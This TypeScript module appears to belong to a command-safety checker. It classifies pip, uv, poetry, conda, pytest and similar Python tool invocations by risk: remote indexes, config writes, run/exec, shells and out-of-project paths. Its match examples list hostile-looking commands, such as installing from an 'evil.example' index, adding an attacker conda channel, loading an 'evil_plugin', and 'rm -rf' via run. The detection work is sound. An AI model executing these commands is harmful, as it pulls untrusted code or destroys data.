/**
 * Python tooling: pip, pipx, uv, poetry, pipenv, pdm, rye, pixi, conda/mamba, hatch, pytest. `run`/`exec` subcommands run a program.
 * Rules: rule.ts; lookup: index.ts.
 */
import { exec, risk } from '../effects.js';
import { argvOf, opaque, HELP, RUN_TOOL, also, commandTable } from './kit.js';
import { CONDA, HATCH, MICROMAMBA, PDM, PIPENV, PIPX, PIXI, POETRY, RYE, type ToolTable } from './python/toolTables.js';
import { optionTable, readItems, readOptions, subcommandOptions, type OptionHandler, type OptionTable } from './optionTable.js';
import { remoteCode } from './noSpec.js';
import { PIP_COMMANDS, PIP_GENERAL } from './python/pipOptions.js';
import { PYTEST } from './python/pytestOptions.js';
import { UV_COMMANDS, UV_GLOBAL, UV_INSTALLER, UV_TOOL_RUN } from './python/uvOptions.js';

const UVX = optionTable({ options: [UV_TOOL_RUN, UV_INSTALLER, UV_GLOBAL], stopAtOperand: true });
import { rules, type Check, type SubcommandSpec, type ProgramRule, type Examples } from './rule.js';

/** pytest (and py.test): every option read with its table (python/pytestOptions.ts). */
const pytest: Check = (argv) => readOptions(PYTEST, argv, 1, String(argv[0])).effects;

/**
 * pip config settings a `pip config set` may write and stay one plain call: display only. Any other
 * key can name a program, a file pip writes or an index it installs from (`global.python`, `log`).
 */
const PIP_DISPLAY_CONFIG =
  /^[a-z]+\.(progress[-_]bar|no[-_]color|disable[-_]pip[-_]version[-_]check|quiet|verbose|no[-_]python[-_]version[-_]warning)$/;

/**
 * An index or find-links page by URL elsewhere than this machine: pip installs (and builds, running
 * its setup code) what that server serves instead of PyPI's package of the same name.
 */
const index: OptionHandler = (value, typed, at) => {
  const remote = value === undefined ? undefined : value === null ? '?' : remoteCode(value);
  return remote === undefined
    ? []
    : [exec('index', opaque(value ?? null), `${at.where} ${typed} installs packages from the server it names`)];
};
const INDEX_OPTIONS = ['index-url', 'extra-index-url', 'find-links', 'pypi-url', 'index'];

function pipTable(own: string): OptionTable {
  const t = optionTable({ options: [own, PIP_GENERAL], abbrev: true });
  const present = INDEX_OPTIONS.filter((o) => t.long.has(o));
  return present.length === 0 ? t : optionTable({ ...t.spec, handlers: Object.fromEntries(present.map((o) => [o, index])) });
}
const PIP_TABLES: Readonly<Record<string, OptionTable>> = Object.fromEntries(
  Object.entries(PIP_COMMANDS).map(([k, v]) => [k, pipTable(v)]),
);

const PIP_GENERAL_TABLE = pipTable('');
const pipOptions = subcommandOptions('pip', { tables: PIP_TABLES });

/** pip: each command's options against its optparse table; `pip config set|edit|unset` changes what later pip runs. */
const PIP: Check = (argv, sub) => {
  // Options before the command are pip's general ones (`pip --log x install y`).
  const out = readOptions(PIP_GENERAL_TABLE, argv.slice(0, sub.index ?? argv.length), 1, 'pip').effects;
  out.push(...pipOptions(argv, sub, 'pip'));
  if (sub.subcommand !== 'config' || sub.index === undefined || out.some((e) => e.flag === 'unknown_option')) return out;
  const r = readOptions(PIP_TABLES.config!, argv, sub.index + 1, 'pip config');
  const ops = r.operands.map((k) => argv[k] ?? null);
  const verb = ops[0];
  if (verb === 'list' || verb === 'get' || verb === 'debug' || verb === undefined) return out;
  if (verb === 'edit') return [...out, exec('edit', opaque(), 'pip config edit runs an editor')];
  const key = ops[1];
  if (verb === 'set' && typeof key === 'string' && PIP_DISPLAY_CONFIG.test(key.toLowerCase())) return out;
  return [...out, risk('config', `pip config ${verb ?? '?'} changes configuration pip reads on every later run`, key ?? null)];
};

/** A tool read whole with its table (python/toolTables.ts). */
function tool(t: ToolTable): Check {
  const read = commandTable(t.global, t.commands, t.runs, t.fallback);
  return (argv, sub, program) => {
    const out = read(argv, sub, program);
    // `pipenv shell`, `hatch shell`, `pixi shell`: an interactive shell, whatever follows.
    if (sub.subcommand !== undefined && t.shells?.includes(sub.subcommand) && !out.some((e) => e.flag === 'unknown_option'))
      out.push(exec('shell', opaque(), `${String(argv[0])} ${sub.subcommand} starts a shell`));
    return out;
  };
}

/** What a `config` command was given: its subcommand path, operand count and options (by name). */
interface ConfigArgs {
  sub: string;
  operands: number;
  has: (option: string) => boolean;
}

/**
 * A tool's `config` command that changes settings later runs read (an index, a venv path, a
 * channel): keyed as configuration; reading settings stays plain. The words are read loosely (the
 * table has already refused an option it does not know).
 */
function configChange(command: string, changes: (a: ConfigArgs) => boolean): Check {
  return (argv) => {
    const i = argv.indexOf(command);
    if (i < 1 || argv.slice(1, i).some((w) => w === null || !w.startsWith('-'))) return [];
    const rest = argv.slice(i + 1);
    const words = rest.filter((w): w is string => w !== null && !w.startsWith('-'));
    const opts = rest.filter((w): w is string => w !== null && w.startsWith('-')).map((w) => w.replace(/^-+/, '').split('=')[0]!);
    const a: ConfigArgs = { sub: [command, ...words].join(' '), operands: words.length, has: (o) => opts.includes(o) };
    return rest.includes(null) || changes(a) ? [risk('config', `${String(argv[0])} ${command} changes settings later runs read`)] : [];
  };
}

/** conda config's options that write a setting (the others show them). */
const CONDA_CONFIG_CHANGES = (a: ConfigArgs): boolean =>
  ['set', 'add', 'append', 'prepend', 'remove', 'remove-key', 'write-default', 'stdin'].some((o) => a.has(o));

const effects: Readonly<Record<string, Check>> = {
  // uv: every command read with its table (python/uvOptions.ts); `uv run X`, `uv tool run X` run X.
  uv: commandTable(UV_GLOBAL, UV_COMMANDS, { run: 'run', 'tool run': 'run' }),
  // uvx is `uv tool run`: its options, then the tool and the tool's own words.
  uvx: (argv) => {
    const r = readItems(UVX, argv, 1, 'uvx');
    if (r.unknown || r.rest === undefined) return r.effects; // `uvx --version`: nothing runs
    return [...r.effects, exec('run', argvOf(argv.slice(r.rest)), 'uvx runs a tool')];
  },
  poetry: also(
    tool(POETRY),
    configChange('config', (a) => a.operands >= 2 || a.has('unset') || a.has('migrate')),
  ),
  pipenv: tool(PIPENV),
  pdm: also(
    tool(PDM),
    configChange('config', (a) => a.operands >= 2 || a.has('delete') || a.has('edit')),
  ),
  pipx: tool(PIPX),
  rye: tool(RYE),
  pixi: tool(PIXI),
  micromamba: also(
    tool(MICROMAMBA),
    configChange(
      'config',
      (a) => !a.sub.startsWith('config list') && !a.sub.startsWith('config get') && !a.sub.startsWith('config describe'),
    ),
  ),
  hatch: also(
    tool(HATCH),
    configChange('config', (a) => a.sub.startsWith('config set') || a.sub.startsWith('config restore')),
  ),
  conda: also(tool(CONDA), configChange('config', CONDA_CONFIG_CHANGES)),
  mamba: also(tool(CONDA), configChange('config', CONDA_CONFIG_CHANGES)),
  pytest,
  pip: PIP,
  pip3: PIP,
  'py.test': pytest,
};

const subcommands: Readonly<Record<string, SubcommandSpec>> = {
  pipenv: RUN_TOOL,
  pdm: RUN_TOOL,
  hatch: RUN_TOOL,
  mamba: RUN_TOOL,
  micromamba: RUN_TOOL,
  rye: RUN_TOOL,
  pixi: RUN_TOOL,
  pip: {
    grammar: {
      longValue: [
        'log',
        'proxy',
        'retries',
        'timeout',
        'exists-action',
        'trusted-host',
        'cert',
        'client-cert',
        'cache-dir',
        'python',
        'use-feature',
        'use-deprecated',
        'keyring-provider',
        'progress-bar',
        'index-url',
      ],
      noAbbrev: false,
    },
    flags: [
      ...HELP,
      '-q',
      '--quiet',
      '--verbose',
      '--isolated',
      '--require-virtualenv',
      '--no-cache-dir',
      '--disable-pip-version-check',
      '--no-color',
      '--no-input',
      '--debug',
      '--no-python-version-warning',
      '--user',
    ],
  },
  pipx: { grammar: { noAbbrev: true }, flags: [...HELP, '--quiet', '--verbose'] },
  uv: {
    grammar: { longValue: ['directory', 'project', 'cache-dir', 'color', 'config-file', 'python'], noAbbrev: true },
    flags: [
      ...HELP,
      '-q',
      '--quiet',
      '--verbose',
      '--offline',
      '--no-cache',
      '-n',
      '--native-tls',
      '--no-config',
      '--no-progress',
      '--preview',
      '--isolated',
    ],
  },
  poetry: {
    grammar: { shortValue: 'CP', longValue: ['directory', 'project'], noAbbrev: true },
    flags: [
      ...HELP,
      '-q',
      '--quiet',
      '--verbose',
      '-vv',
      '-vvv',
      '-n',
      '--no-interaction',
      '--ansi',
      '--no-ansi',
      '--no-plugins',
      '--no-cache',
    ],
  },
  conda: { grammar: { noAbbrev: true }, flags: HELP },
};

/** What these rules catch (match: compound, key holding the fragment) and let through (notMatch: simple). */
const PYTEST_EXAMPLES: Examples = {
  match: [
    ['pytest -p evil_plugin', '#p'],
    ['pytest -pevil_plugin tests/', '#p'],
    ['pytest --basetemp=/tmp/x', '#basetemp'],
    ['pytest --junitxml /tmp/r.xml', '#junitxml'],
    ['pytest -c ../other/pytest.ini', '#config_file'],
    ['pytest --config-file=/tmp/p.ini', '#config_file'],
    ['pytest --rootdir=/tmp/x', '#rootdir'],
    ['pytest --confcutdir /', '#confcutdir'],
    ['pytest -o pythonpath=/tmp/evil', '#override_ini'],
    ['pytest --pdbcls=evil:Pdb', '#pdbcls'],
    ['pytest --tx popen//python=/tmp/py', '#tx'],
    ['pytest ../other/tests', '#outside'],
    ['pytest @/tmp/args.txt', '#outside'],
    ['pytest --frobnicate', '#unknown_option'],
    // argparse with allow_abbrev=False: a prefix is no option of pytest's, so unknown here.
    ['pytest --basete=/tmp/x', '#unknown_option'],
  ],
  notMatch: [
    'pytest',
    'pytest -q',
    'pytest -x --maxfail=1',
    'pytest -k "parse and not slow" -v',
    'pytest --cov=src --cov-report=term-missing',
    'pytest -n auto',
    'pytest -p no:cacheprovider',
    'pytest tests/test_models.py::test_save -vv',
    'pytest -c pytest.ini',
    'pytest -o log_cli=true',
    'pytest --no-fold-skipped --sw-reset tests',
    'pytest --reruns 3 --timeout=60',
    'pytest -n0 -k test_name',
  ],
};

const EXAMPLES: Readonly<Record<string, Examples>> = {
  pytest: PYTEST_EXAMPLES,
  'py.test': {
    match: [
      ['py.test -p evil_plugin', '#p'],
      ['py.test --basetemp /tmp/x', '#basetemp'],
    ],
    notMatch: ['py.test -q', 'py.test tests/ -x'],
  },
  uvx: {
    match: [
      ['uvx ruff check', '#run-[-ruff-'],
      ['uvx --from git+https://example.com/x.git tool', '#remote'],
      ['uvx --with ../evil ruff', '#outside'],
      ['uvx --frob ruff', '#unknown_option'],
    ],
    notMatch: ['uvx --version', 'uvx --help'],
  },
  pip3: {
    match: [
      ['pip3 install --target /tmp/x requests', '#target'],
      ['pip3 install -t/tmp/x requests', '#target'],
      ['pip3 install ../other', '#outside'],
      ['pip3 install --frob x', '#unknown_option'],
    ],
    notMatch: ['pip3 install numpy', 'pip3 install -r requirements.txt', 'pip3 list'],
  },
  pipenv: {
    match: [
      ['pipenv run rm -rf x', '#run-[-rm-]'],
      ['pipenv --python /tmp/py install', '#outside'],
      ['pipenv install --frob', '#unknown_option'],
      ['pipenv shell', '#shell'],
    ],
    notMatch: ['pipenv install --dev', 'pipenv lock', 'pipenv graph'],
  },
  poetry: {
    match: [
      ['poetry run rm x', '#run-[-rm-]'],
      ['poetry -C ../other install', '#outside'],
      ['poetry --directory=/tmp/x install', '#outside'],
      ['poetry config virtualenvs.path /tmp/v', '#config'],
      ['poetry install --frob', '#unknown_option'],
      ['poetry build -o /tmp/dist', '#output'],
    ],
    notMatch: [
      'poetry install',
      'poetry add requests',
      'poetry install --no-root -E lxml',
      'poetry install --with docs --without test',
      'poetry show --tree',
      'poetry config --list',
    ],
  },
  pdm: {
    match: [
      ['pdm run rm x', '#run-[-rm-]'],
      ['pdm init https://example.com/template.git', '#init'],
      ['pdm -c /tmp/pdm.toml install', '#outside'],
      ['pdm install --frob', '#unknown_option'],
      ['pdm config pypi.url http://evil.example', '#config'],
      ['pdm build -d /tmp/dist', '#dest'],
    ],
    notMatch: ['pdm install --quiet', 'pdm list', 'pdm sync -G grpc,io,testing --quiet', 'pdm test', 'pdm config'],
  },
  pipx: {
    match: [
      ['pipx run black .', '#run-[-black-'],
      ['pipx install git+https://example.com/x.git', '#remote'],
      ['pipx install ../evil', '#outside'],
      ['pipx install --frob x', '#unknown_option'],
      ['pipx runpip black install x', '#runpip'],
    ],
    notMatch: ['pipx install ruff', 'pipx list', 'pipx upgrade-all'],
  },
  rye: {
    match: [
      ['rye run rm x', '#run-[-rm-]'],
      ['rye add x --path ../evil', '#outside'],
      ['rye sync --frob', '#unknown_option'],
    ],
    notMatch: ['rye sync', 'rye add requests', 'rye list'],
  },
  pixi: {
    match: [
      ['pixi run rm x', '#run-[-rm-]'],
      ['pixi exec ruff', '#exec-[-ruff-]'],
      ['pixi task add evil "rm -rf x"', '#task_add'],
      ['pixi install --manifest-path /tmp/pixi.toml', '#outside'],
      ['pixi add --frob numpy', '#unknown_option'],
    ],
    notMatch: ['pixi add numpy', 'pixi install', 'pixi list'],
  },
  hatch: {
    match: [
      ['hatch run rm x', '#run-[-rm-]'],
      ['hatch env run -- rm x', '#run-[-rm-]'],
      ['hatch shell', '#shell'],
      ['hatch config set dirs.env.virtual /tmp/v', '#config'],
      ['hatch build --frob', '#unknown_option'],
    ],
    notMatch: ['hatch build', 'hatch version', 'hatch env show'],
  },
  conda: {
    match: [
      ['conda run -n env rm x', '#run-[-rm-]'],
      ['conda config --add channels http://evil.example', '#config'],
      ['conda install -p /tmp/env numpy', '#outside'],
      ['conda env create -f ../other/environment.yml', '#outside'],
      ['conda install --frob numpy', '#unknown_option'],
    ],
    notMatch: ['conda create -n env python=3.11 -y', 'conda env create -f environment.yml', 'conda list', 'conda config --show'],
  },
  mamba: {
    match: [
      ['mamba run -n env rm x', '#run-[-rm-]'],
      ['mamba install --frob numpy', '#unknown_option'],
      ['mamba config --set channel_priority strict', '#config'],
    ],
    notMatch: ['mamba install -c conda-forge numpy', 'mamba env list'],
  },
  micromamba: {
    match: [
      ['micromamba run -n env rm x', '#run-[-rm-]'],
      ['micromamba create -f /tmp/env.yml', '#outside'],
      ['micromamba config set channel_priority strict', '#config'],
      ['micromamba install --frob numpy', '#unknown_option'],
    ],
    notMatch: ['micromamba install -y -n env numpy', 'micromamba env list', 'micromamba config list'],
  },
  uv: {
    match: [
      ['uv run rm x', '#run-[-rm-]'],
      ['uv tool run ruff check', '#run-[-ruff-'],
      ['uv run --with ../evil python', '#outside'],
      ['uv pip install --target /tmp/x requests', '#target'],
      ['uv add git+https://example.com/x.git', '#remote'],
      ['uv sync --frob', '#unknown_option'],
      ['uv --directory=/tmp/x sync', '#outside'],
    ],
    notMatch: ['uv sync', 'uv add --dev ruff', 'uv pip install -r requirements.txt', 'uv pip --directory api list', 'uv init --app'],
  },
  pip: {
    match: [
      ['pip install --log /tmp/x requests', '#log'],
      ['pip install --target ../elsewhere x', '#target'],
      ['pip --python /tmp/py install x', '#python'],
      ['pip config set global.index-url https://example.com', '#config'],
      ['pip install --frobnicate x', '#unknown_option'],
      ['pip install -r ../other/req.txt', '#outside'],
      ['pip install --index-url=http://evil.example/simple x', '#index'],
      ['pip install -ihttps://evil.example/simple x', '#index'],
      ['pip install --extra-index-url https://evil.example/simple x', '#index'],
      ['pip install -e git+https://example.com/x.git#egg=x', '#remote'],
      ['pip install --tar /tmp/x y', '#target'],
    ],
    notMatch: [
      'pip install -r req.txt',
      'pip install -U pip',
      'pip list --outdated',
      'pip config set global.progress_bar off',
      'pip install --group dev',
      'pip install -e . --group dev',
      'pip --disable-pip-version-check list --outdated --format=json',
      'pip index versions requests',
      'pip uninstall -y requests',
    ],
  },
};

/** Read whole with their tables, the default's checks on top (paths outside the project, `git+` code). */
const WITH_DEFAULTS = [
  'pytest',
  'py.test',
  'pip',
  'pip3',
  'uv',
  'uvx',
  'poetry',
  'pipenv',
  'pdm',
  'pipx',
  'rye',
  'pixi',
  'micromamba',
  'hatch',
  'conda',
  'mamba',
];

export const RULES: readonly ProgramRule[] = rules(
  'python',
  {
    effects,
    subcommands: { ...subcommands, pip3: subcommands['pip']! },
    // Read whole with their tables; their operands and option values are paths and package
    // specifiers, so the default's checks (a path outside the project, `git+` code) apply on top.
    allowlist: [...WITH_DEFAULTS],
    withDefaults: [...WITH_DEFAULTS],
  },
  EXAMPLES,
);
